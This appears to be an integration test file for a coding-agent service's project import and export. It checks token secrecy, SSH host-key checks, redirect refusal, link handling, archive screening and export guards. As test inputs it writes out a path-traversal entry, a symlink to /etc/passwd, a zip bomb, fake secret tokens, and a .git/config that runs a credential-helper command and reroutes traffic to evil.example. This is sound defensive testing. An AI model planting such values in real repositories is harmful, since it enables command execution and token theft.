import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { ProjectSource } from "../contract/sources.ts";
import { isEnded } from "../contract/statuses.ts";
import type { ProjectView } from "../contract/views.ts";
import type { Domain } from "../domain/domain.ts";
import { listEvents } from "../domain/events/index.ts";
import { GitCredentialId } from "../contract/ids.ts";
import type { WantedExport } from "../contract/exports.ts";
import { exportPath, listExports, requestExport } from "../domain/exports/index.ts";
import { createGitCredential } from "../domain/git-credentials/index.ts";
import { changeSource, confirmImport } from "../domain/imports/index.ts";
import { cancelProject, createSample, getProject, retryProject, submitProject } from "../domain/projects/index.ts";
import { writeSettings } from "../domain/settings/index.ts";
import { recordUpload, uploadPath } from "../domain/uploads/index.ts";
import { parseEnv } from "../platform/env.ts";
import { newId } from "../platform/ids.ts";
import { workspacePaths } from "../sandbox/workspace-files.ts";
import { assertBooksBalance } from "../testing/assert-books-balance.ts";
import { createTestDatabase, type TestDatabase } from "../testing/database.ts";
import { createTestDomain, seedDraft, seedUser } from "../testing/project-factory.ts";
import { tarGz, zipOf } from "../testing/archives.ts";
import { sshdPath, startSshServer } from "../testing/ssh-server.ts";
import { startGitServer, type GitServer } from "../testing/git-server.ts";
import { silent } from "../testing/web.ts";
import { startRunner, type Runner } from "./main.ts";

let database: TestDatabase;
let domain: Domain & { close(): Promise<void> };
let runner: Runner;
let owner: { id: string; role: "ADMIN" };
const dataDir = mkdtempSync(path.join(tmpdir(), "spiral-imports-"));
const outside = mkdtempSync(path.join(tmpdir(), "spiral-imports-outside-"));
const token = "glpat-a-token-that-nobody-must-see-7f3a";
let open: GitServer;
let guarded: GitServer;

beforeAll(async () => {
  database = await createTestDatabase();
  domain = await createTestDomain(database);
  owner = { ...(await seedUser(domain)), role: "ADMIN" };
  const env = parseEnv(
    {
      DATABASE_URL: database.url,
      SPIRAL_DATA_DIR: dataDir,
      SPIRAL_SCRIPTED_PACE_MS: "0",
      OLLAMA_HOST: "http://127.0.0.1:9",
    },
    dataDir,
  );
  open = await startGitServer(path.join(outside, "open"));
  guarded = await startGitServer(path.join(outside, "guarded"), { token });
  await writeSettings(domain, {
    values: {
      "import.privateHosts": [open.host, guarded.host],
      "import.folders": [path.join(outside, "allowed")],
    },
    actorId: owner.id,
  });
  runner = await startRunner({ env, log: silent });
});
afterAll(async () => {
  await runner.stop();
  await domain.close();
  await database.close();
  await Promise.all([open.close(), guarded.close()]);
  for (const folder of [dataDir, outside]) rmSync(folder, { recursive: true, force: true });
});

/** After every story the books balance: by themselves, and with what the model's own side has counted. */
afterEach(() => assertBooksBalance(domain, runner.scriptedTally({})));

const view = (projectId: string) => getProject(domain, { viewer: owner, projectId });
const eventsOf = (projectId: string) => listEvents(domain, { projectId, after: 0, limit: 1_000 });
const until = async (projectId: string, reached: (project: ProjectView) => boolean): Promise<ProjectView> => {
  await expect.poll(async () => reached(await view(projectId)), { timeout: 60_000, interval: 50 }).toBe(true);
  return view(projectId);
};

describe("a project that starts from something", { timeout: 90_000 }, () => {
  test("the sample: a repository comes in with its history, and its defect is mended from red to green", async () => {
    const { projectId } = await createSample(domain, { ownerId: owner.id, sampleId: "sample-repository" });
    const project = await until(projectId, ({ status }) => isEnded(status) || status === "WAITING");
    expect(project).toMatchObject({ status: "SUCCEEDED", source: { kind: "sample", imported: true } });
    expect(project.phases[0]?.rounds.map(({ verdict }) => verdict?.verdict)).toEqual(["refine", "accept"]);
    const events = await eventsOf(projectId);
    const figures = events.flatMap(({ payload }) => (payload.type === "import.finished" ? [payload.figures] : []));
    expect(figures).toMatchObject([{ files: 9, history: 3, originBranch: "main", notes: [] }]);
    // Red, then green, twice: what the Developer ran itself.
    const ran = events.flatMap(({ payload }) =>
      payload.type === "tool.finished" && /ℹ tests/.test(payload.output) ? [payload.isError] : [],
    );
    expect(ran).toEqual([true, false, true, false]);
    // The repository's own rules reach the agents as material.
    const asked = events.flatMap(({ payload }) => (payload.type === "agent.instructed" ? [payload.prompt] : []));
    expect(asked[0]).toContain('<data label="the repository\'s AGENTS.md">');
  });

  const begin = async (source: unknown): Promise<string> => {
    const projectId = await seedDraft(domain, { ownerId: owner.id, scenario: "bench" });
    await changeSource(domain, { projectId, source: ProjectSource.parse(source), actorId: owner.id });
    await submitProject(domain, { projectId, actorId: owner.id });
    return projectId;
  };
  const upload = async (name: string, content: Buffer): Promise<unknown> => {
    const id = newId("upload");
    mkdirSync(path.dirname(uploadPath(dataDir, id)), { recursive: true });
    writeFileSync(uploadPath(dataDir, id), content);
    await recordUpload(domain, { id, ownerId: owner.id, name, bytes: content.length });
    return { kind: "archive", uploadId: id };
  };
  const standing = ({ status }: ProjectView): boolean => isEnded(status) || status === "WAITING";
  /** What follows an import is other tests' matter. */
  const imported = async (projectId: string): Promise<boolean> => {
    const { source } = await until(projectId, (project) => project.source?.imported === true || standing(project));
    if (source?.imported === true) await cancelProject(domain, { projectId, actorId: owner.id });
    return source?.imported === true;
  };
  const figuresOf = async (projectId: string) =>
    (await eventsOf(projectId)).flatMap(({ payload }) =>
      payload.type === "import.finished" ? [payload.figures] : [],
    )[0];
  const fileOf = (projectId: string, name: string): string =>
    readFileSync(path.join(workspacePaths(dataDir, projectId).filesPath, name), "utf8");
  const gitOf = (projectId: string, ...args: string[]): string =>
    execFileSync("git", ["-c", "safe.directory=*", ...args], {
      cwd: workspacePaths(dataDir, projectId).filesPath,
      encoding: "utf8",
    }).trim();
  const heldMessage = async (projectId: string): Promise<string> => {
    const { hold, brief } = await until(projectId, standing);
    expect(brief).toBe("Build a small thing with tests.");
    return hold?.reason === "attention" ? hold.message : `not held: ${JSON.stringify(hold)}`;
  };

  test("an archive's one folder becomes the workspace, committed; what a dead runner has left of an import goes", async () => {
    const projectId = await seedDraft(domain, { ownerId: owner.id, scenario: "bench" });
    const { filesPath } = workspacePaths(dataDir, projectId);
    const half = path.join(path.dirname(filesPath), "incoming", "files");
    for (const folder of [filesPath, half]) {
      mkdirSync(folder, { recursive: true });
      writeFileSync(path.join(folder, "half.txt"), "half");
    }
    const source = await upload(
      "tool.zip",
      await zipOf({ "tool-main/README.md": "# A tool", "tool-main/src/a.js": "1;" }),
    );
    await changeSource(domain, { projectId, source: ProjectSource.parse(source), actorId: owner.id });
    await submitProject(domain, { projectId, actorId: owner.id });
    expect(await imported(projectId)).toBe(true);
    expect(fileOf(projectId, "src/a.js")).toBe("1;");
    for (const left of [path.join(filesPath, "half.txt"), path.dirname(half)]) expect(existsSync(left)).toBe(false);
    expect(await figuresOf(projectId)).toMatchObject({ from: "tool.zip", files: 2, history: 0, originBranch: null });
    expect(gitOf(projectId, "log", "--format=%s").split("\n").at(-1)).toBe("Import tool.zip");
  });

  test("a private repository comes in with its history; its token is nowhere but at its host", async () => {
    guarded.repository("private", { "README.md": "# Private", "a.js": "export const a = 1;\n" });
    const { credentialId } = await createGitCredential(domain, {
      ownerId: owner.id,
      input: { kind: "token", name: "Forge", host: `http://${guarded.host}/x.git`, token },
    });
    const source = { kind: "git", url: guarded.url("private"), credentialId };
    const projectId = await begin(source);
    expect(await imported(projectId)).toBe(true);
    expect(await figuresOf(projectId)).toMatchObject({ history: 1, originBranch: "main", branch: /^spiral\// });
    expect(guarded.authorizations).toContain(`Basic ${Buffer.from(`git:${token}`).toString("base64")}`);
    expect(gitOf(projectId, "config", "--local", "--list")).not.toMatch(/remote|credential|127\.0\.0\.1/);
    const rows = await database.prisma.$queryRaw<{ all: string }[]>`
      SELECT e::text AS all FROM "Event" e UNION ALL SELECT p::text FROM "Project" p UNION ALL SELECT r::text FROM "Run" r`;
    expect(JSON.stringify(rows)).not.toContain(token);
    expect(() => execFileSync("grep", ["-r", token, path.join(dataDir, "workspaces")])).toThrow(/Command failed/);
  });

  const sshd = sshdPath();
  test.skipIf(sshd === null)("a repository comes in by ssh, with a stored key and the host's own", async () => {
    if (sshd === null) return;
    const ssh = await startSshServer(sshd, path.join(outside, "ssh"));
    await writeSettings(domain, {
      values: { "import.privateHosts": [open.host, guarded.host, ssh.host] },
      actorId: owner.id,
    });
    const bare = open.repository("by-ssh", { "a.txt": "a" });
    const url = `ssh://${ssh.user}@${ssh.host}${bare}`;
    const store = (name: string, knownHosts: string) =>
      createGitCredential(domain, {
        ownerId: owner.id,
        input: { kind: "ssh_key", name, host: url, privateKey: ssh.privateKey, knownHosts },
      });
    const { credentialId } = await store("Key", ssh.knownHosts);
    const projectId = await begin({ kind: "git", url, credentialId });
    expect(await imported(projectId)).toBe(true);
    expect(await figuresOf(projectId)).toMatchObject({ files: 1, history: 1 });

    const other = `[127.0.0.1]:${ssh.host.split(":")[1] ?? ""} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl`;
    const stranger = await store("Stranger", other);
    const refused = await begin({ kind: "git", url, credentialId: stranger.credentialId });
    expect(await heldMessage(refused)).toMatch(/showed another key/);
    await ssh.close();
  });

  test("a host that wants a password, a repository, branch or commit that is not there, a host that does not answer", async () => {
    const wants = await begin({ kind: "git", url: guarded.url("private") });
    expect(await heldMessage(wants)).toMatch(/wants a password .* choose a credential/);
    const missing = await begin({ kind: "git", url: open.url("nobody") });
    expect(await heldMessage(missing)).toMatch(/has no repository at this address/);
    open.repository("branches", { "a.txt": "a" });
    const branch = await begin({ kind: "git", url: open.url("branches"), branch: "nobody" });
    expect(await heldMessage(branch)).toMatch(/no branch of this name/);
    open.repository("headless", { "a.txt": "a" });
    open.git("headless", "symbolic-ref", "HEAD", "refs/heads/nobody");
    const headless = await begin({ kind: "git", url: open.url("headless") });
    expect(await heldMessage(headless)).toMatch(/no commit on the branch that it names as its own/);
    const silentHost = "127.0.0.1:9";
    await writeSettings(domain, {
      values: { "import.privateHosts": [open.host, guarded.host, silentHost] },
      actorId: owner.id,
    });
    const gone = await begin({ kind: "git", url: `http://${silentHost}/a.git` });
    expect(await heldMessage(gone)).toMatch(/did not answer/);
    // Something else is chosen, and the project goes on.
    await changeSource(domain, {
      projectId: gone,
      source: ProjectSource.parse({ kind: "git", url: open.url("branches") }),
      actorId: owner.id,
    });
    await retryProject(domain, { projectId: gone, actorId: owner.id });
    expect(await imported(gone)).toBe(true);
  });

  test("a host that leads to a private address gets nothing and reaches nothing", async () => {
    const inside = await startGitServer(path.join(outside, "inside"));
    inside.repository("secret", { "a.txt": "a" });
    const leading = await startGitServer(path.join(outside, "leading"), { redirectTo: `http://${inside.host}` });
    await writeSettings(domain, {
      values: { "import.privateHosts": [open.host, guarded.host, leading.host] },
      actorId: owner.id,
    });
    const projectId = await begin({ kind: "git", url: leading.url("secret") });
    expect(await heldMessage(projectId)).toMatch(/leads on to another address, which was not followed/);
    expect(inside.authorizations).toEqual([]);
    await expect(begin({ kind: "git", url: inside.url("secret") })).rejects.toThrow(/this machine itself/);
    await expect(begin({ kind: "git", url: "http://example.org/a.git" })).rejects.toThrow(/Use https/);
    await Promise.all([inside.close(), leading.close()]);
  });

  test("submodules and LFS pointers are named, hooks and configuration are not brought along", async () => {
    open.repository("special", {
      ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
      "big.bin": `version https://git-lfs.github.com/spec/v1\noid sha256:${"0".repeat(64)}\nsize 5\n`,
    });
    const work = path.join(outside, "open", "special-work");
    const commit = execFileSync("git", ["rev-parse", "HEAD"], { cwd: work, encoding: "utf8" }).trim();
    execFileSync("git", ["update-index", "--add", "--cacheinfo", `160000,${commit},vendor/lib`], { cwd: work });
    execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "Vendor"], { cwd: work });
    execFileSync("git", ["push", "-q", path.join(outside, "open", "special.git"), "main"], { cwd: work });
    const projectId = await begin({ kind: "git", url: open.url("special") });
    expect(await imported(projectId)).toBe(true);
    const figures = await figuresOf(projectId);
    expect(figures?.notes.join(" ")).toMatch(/submodule was left out \(vendor\/lib\).*A file is in Git LFS/);
  });

  test("a folder comes in only where an admin allows it, without what its links point at", async () => {
    const folder = path.join(outside, "allowed", "mine");
    mkdirSync(folder, { recursive: true });
    writeFileSync(path.join(folder, "a.txt"), "mine");
    writeFileSync(path.join(outside, "secret.txt"), "theirs");
    symlinkSync(path.join(outside, "secret.txt"), path.join(folder, "link.txt"));
    symlinkSync(outside, path.join(outside, "allowed", "way-out"));
    const projectId = await begin({ kind: "folder", path: folder });
    expect(await imported(projectId)).toBe(true);
    expect(await figuresOf(projectId)).toMatchObject({ files: 1, notes: ["1 links were left out."] });
    await expect(begin({ kind: "folder", path: outside })).rejects.toThrow(/may not start from/);
    const wayOut = await begin({ kind: "folder", path: path.join(outside, "allowed", "way-out") });
    expect(await heldMessage(wayOut)).toMatch(/is not a folder .* or a link is on the way/);
  });

  test("archives that lead out, link, explode or are none are refused whole", async () => {
    const bomb = await tarGz([{ name: "zeros.bin", content: Buffer.alloc(80 * 1024 ** 2) }]);
    const cases: readonly (readonly [string, Buffer, RegExp])[] = [
      ["up.tgz", await tarGz([{ name: "a.txt" }, { name: "../evil.txt", content: "x" }]), /leads out of the folder/],
      ["link.tgz", await tarGz([{ name: "l", type: "symlink", linkname: "/etc/passwd" }]), /is a link/],
      ["bomb.tgz", bomb, /times its packed size/],
      ["none.zip", Buffer.from("this is no archive at all"), /not an archive/],
    ];
    for (const [name, content, says] of cases) {
      const projectId = await begin(await upload(name, content));
      expect(await heldMessage(projectId)).toMatch(says);
      expect(() => fileOf(projectId, "a.txt")).toThrow(/ENOENT/);
    }
  });

  test("what the screening finds waits for somebody who has looked at it", async () => {
    const key = "AKIA".concat("QYLPMN5HFIQR7XYA");
    const files = { "config.js": `const awsAccessKeyId = "${key}";\nconst s = "ghp_${"a1B2".repeat(9)}";\n` };
    const projectId = await begin(await upload("leaky.zip", await zipOf(files)));
    expect(await heldMessage(projectId)).toMatch(/somebody should look at/);
    const { source } = await view(projectId);
    expect(source).toMatchObject({ imported: false, changeable: true, screening: { decision: "unconfirmed" } });
    await confirmImport(domain, { projectId, hash: source?.screening?.hash ?? "", actorId: owner.id });
    await retryProject(domain, { projectId, actorId: owner.id });
    expect(await imported(projectId)).toBe(true);
  });

  const broughtOut = async (projectId: string, wanted: WantedExport) => {
    const { exportId } = await requestExport(domain, { projectId, wanted, actorId: owner.id });
    const read = async () => {
      const { exports } = await listExports(domain, { projectId, viewerId: owner.id });
      return exports.find(({ id }) => id === exportId);
    };
    await expect.poll(async () => (await read())?.status, { timeout: 30_000 }).toMatch(/SUCCEEDED|FAILED/);
    return { ...(await read()), file: exportPath(dataDir, exportId) };
  };

  test("accepted work goes out as a patch, a bundle and a push to a new branch, never over an existing one", async () => {
    guarded.repository("home", { "README.md": "# Home" });
    const { credentialId } = await createGitCredential(domain, {
      ownerId: owner.id,
      input: { kind: "token", name: "Home", host: guarded.host, token },
    });
    const projectId = await begin({ kind: "git", url: guarded.url("home"), credentialId });
    expect(await until(projectId, standing)).toMatchObject({ status: "SUCCEEDED" });
    const files = workspacePaths(dataDir, projectId).filesPath;
    // What an agent may have left in its own repository is nobody's to run, least of all beside a token.
    writeFileSync(
      path.join(files, ".git", "config"),
      '[core]\n\trepositoryformatversion = 0\n[credential]\n\thelper = "!touch /workspace/ran"\n[url "http://evil.example/"]\n\tinsteadOf = http://\n',
    );

    const patch = await broughtOut(projectId, { kind: "patch" });
    expect(patch).toMatchObject({ status: "SUCCEEDED", downloadable: true });
    const clone = path.join(outside, "clone");
    execFileSync("git", ["clone", "-q", path.join(outside, "guarded", "home.git"), clone]);
    execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b", "am", "-q", patch.file], { cwd: clone });

    const bundle = await broughtOut(projectId, { kind: "bundle" });
    const unbundled = path.join(outside, "unbundled");
    execFileSync("git", ["clone", "-q", "-b", "spiral/a-small-thing", bundle.file, unbundled]);
    expect(execFileSync("git", ["rev-parse", "HEAD"], { cwd: unbundled, encoding: "utf8" }).trim()).toBe(
      bundle.result?.commit,
    );

    const wanted = {
      kind: "push",
      url: null,
      branch: "spiral/work",
      credentialId: GitCredentialId.parse(credentialId),
    } as const;
    expect(await broughtOut(projectId, wanted)).toMatchObject({ status: "SUCCEEDED" });
    expect(guarded.git("home", "rev-parse", "refs/heads/spiral/work").trim()).toBe(bundle.result?.commit);
    const main = guarded.git("home", "rev-parse", "refs/heads/main");
    const taken = await broughtOut(projectId, { ...wanted, branch: "main" });
    expect(taken.status).toBe("FAILED");
    expect(taken.error).toMatch(/is a branch main already/);
    expect(guarded.git("home", "rev-parse", "refs/heads/main")).toBe(main);
    const without = await broughtOut(projectId, { ...wanted, branch: "other", credentialId: null });
    expect(without.error).toMatch(/wants a password/);
    expect(() => readFileSync(path.join(files, "ran"))).toThrow(/ENOENT/);
    const rows = await database.prisma.$queryRaw<{ all: string }[]>`SELECT e::text AS all FROM "Export" e`;
    expect(JSON.stringify(rows)).not.toContain(token);
  });
});
